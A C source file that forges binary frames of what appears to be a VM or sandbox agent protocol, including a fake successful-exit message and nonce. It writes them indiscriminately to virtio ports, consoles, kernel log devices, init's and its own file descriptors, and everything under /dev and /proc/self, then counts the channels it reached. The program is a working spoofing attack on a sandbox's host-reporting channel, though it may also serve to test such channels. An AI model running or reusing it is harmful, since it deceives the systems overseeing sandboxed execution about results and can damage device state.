#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

/* EXIT of a program that ended well; also STARTED, OUTPUT, ERROR and HELLO. */
static const unsigned char frames[] =
    "\x01\0\0\0\x43"
    "\x06\0\0\0\x44\x01" "fake"
    "\x25\0\0\0\x45\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
    "\x09\0\0\0\x46\x05\0\x02\0\0\0no"
    "\x25\0\0\0\x41\x02\0\x01\x10\0\0\0nonce of 16 byte\x01\0\0\0a\x01\0\0\0k"
    "\0\0\0\0" "\x7f\x7f\x7f\x7f\x45";

static int written;

static void forge(int fd)
{
    if (write(fd, frames, sizeof frames - 1) > 0)
        written++;
}

static void forge_all(const char *folder, int depth)
{
    char path[512];
    DIR *entries = opendir(folder);
    for (struct dirent *entry; entries && (entry = readdir(entries));) {
        if (entry->d_name[0] == '.')
            continue;
        snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
        int fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY);
        if (fd >= 0)
            forge(fd);
        close(fd);
        if (entry->d_type == DT_DIR && depth > 0)
            forge_all(path, depth - 1);
    }
    if (entries)
        closedir(entries);
}

int main(void)
{
    static const char *const devices[] = {"/dev/vport0p1", "/dev/vport1p1", "/dev/vport2p1", "/dev/hvc0", "/dev/hvc1",
                                          "/dev/ttyS0", "/dev/ttyS1", "/dev/console", "/dev/tty0", "/dev/kmsg", "/dev/vsock",
                                          "/dev/virtio-ports/tvm.agent", "/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2",
                                          "/proc/1/fd/3", "/proc/1/fd/4", "/proc/1/fd/5", "/proc/1/fd/6", "/proc/kmsg"};
    int reached = 0;
    for (size_t i = 0; i < sizeof devices / sizeof *devices; i++) {
        int fd = open(devices[i], O_RDWR | O_NONBLOCK | O_NOCTTY);
        reached += fd >= 0;
        forge(fd);
    }
    for (int fd = 0; fd < 2048; fd++)
        if (fd != 1)
            forge(fd);
    forge_all("/dev", 2);
    forge_all("/proc/self/fd", 0);
    forge_all("/proc/self/task", 3);
    write(1, frames, sizeof frames - 1);
    printf("\nchannels reached: %d\n", reached);
    fflush(stdout);
    return 9;
}
